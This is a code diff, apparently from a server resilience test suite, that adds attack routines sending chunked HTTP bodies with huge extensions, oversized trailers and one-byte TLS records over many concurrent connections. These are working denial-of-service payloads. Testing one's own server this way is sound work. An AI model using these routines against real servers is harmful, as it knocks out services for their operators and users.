@@ -15,13 +15,18 @@ import {
 /** Chunks of a body, in one write. */
 const chunks = Buffer.from('1\r\n \r\n'.repeat(10_000));
 
+/** Returns the headers of a body in chunks. */
+function chunkedHead({ https }: AttackTarget): string {
+  const { host, pathname } = new URL(https);
+  return (
+    `POST ${pathname}/auth/challenge HTTP/1.1\r\nHost: ${host}\r\n` +
+    'Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n'
+  );
+}
+
 async function openBody(target: AttackTarget): Promise<TLSSocket> {
   const socket = await openRaw(target);
-  const { host, pathname } = new URL(target.https);
-  socket.write(
-    `POST ${pathname}/auth/challenge HTTP/1.1\r\nHost: ${host}\r\n` +
-      'Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n',
-  );
+  socket.write(chunkedHead(target));
   return socket;
 }
 
@@ -30,11 +35,12 @@ async function sendChunks(
   target: AttackTarget,
   bodies: TLSSocket[],
   signal: AbortSignal,
+  bytes = chunks,
 ): Promise<void> {
   while (!signal.aborted) {
     for (const [index, socket] of bodies.entries()) {
       if (socket.destroyed) bodies[index] = await openBody(target);
-      else if (socket.writableLength === 0) socket.write(chunks);
+      else if (socket.writableLength === 0) socket.write(bytes);
     }
     await new Promise((resolve) => setImmediate(resolve));
   }
@@ -88,6 +94,64 @@ export const smallRecords: Attack = {
     );
     begun();
     debtor?.write(emptyPings);
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    for (const gate of gates) gate.open();
+    if (!signal.aborted) await once(signal, 'abort');
+  },
+};
+
+/** A chunk of one byte whose extension is as long as Node allows. */
+const extended = Buffer.from(`1;${'a'.repeat(16_000)}\r\n \r\n`.repeat(4));
+
+export const chunkExtensions: Attack = {
+  title: '20 bodies of a stranger arrive in chunks of one byte with extensions of 16,000',
+  hasPreparation: true,
+  async run(target, signal, begun) {
+    const bodies = await openSeveral(20, () => openBody(target), signal);
+    begun();
+    await sendChunks(target, bodies, signal, extended);
+  },
+};
+
+/** The last chunk of a body, with trailers, and the headers of the next one. */
+export const trailers: Attack = {
+  title: '20 connections of a stranger send empty bodies with trailers of 15,000 bytes',
+  hasPreparation: true,
+  async run(target, signal, begun) {
+    const bodies = await openSeveral(20, () => openRaw(target), signal);
+    begun();
+    const trailer = `X: ${'a'.repeat(15_000)}`;
+    const body = Buffer.from(`${chunkedHead(target)}0\r\n${trailer}\r\n\r\n`.repeat(4));
+    while (!signal.aborted) {
+      for (const [index, socket] of bodies.entries()) {
+        if (socket.destroyed) bodies[index] = await openRaw(target);
+        else if (socket.writableLength === 0) socket.write(body);
+      }
+      await new Promise((resolve) => setImmediate(resolve));
+    }
+  },
+};
+
+export const tinyHeaderRecords: Attack = {
+  title: '40 connections of a stranger get requests in records of one byte, 20,000 at once',
+  hasPreparation: true,
+  async run(target, signal, begun) {
+    const server = new URL(target.https);
+    const gates: Gate[] = [];
+    const requests = Buffer.from('GET / HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(1_000));
+    await Promise.all(
+      Array.from({ length: 40 }, async () => {
+        const gate = await openGate(server);
+        gates.push(gate);
+        const https = target.https.replace(`:${server.port}`, `:${gate.port}`);
+        const socket = await openRaw({ ...target, https });
+        gate.close();
+        for (let sent = 0; sent < recordsOfConnection && !signal.aborted; sent += 1) {
+          await new Promise((resolve) => socket.write(requests.subarray(sent, sent + 1), resolve));
+        }
+      }),
+    );
+    begun();
     await new Promise((resolve) => setTimeout(resolve, 100));
     for (const gate of gates) gate.open();
     if (!signal.aborted) await once(signal, 'abort');
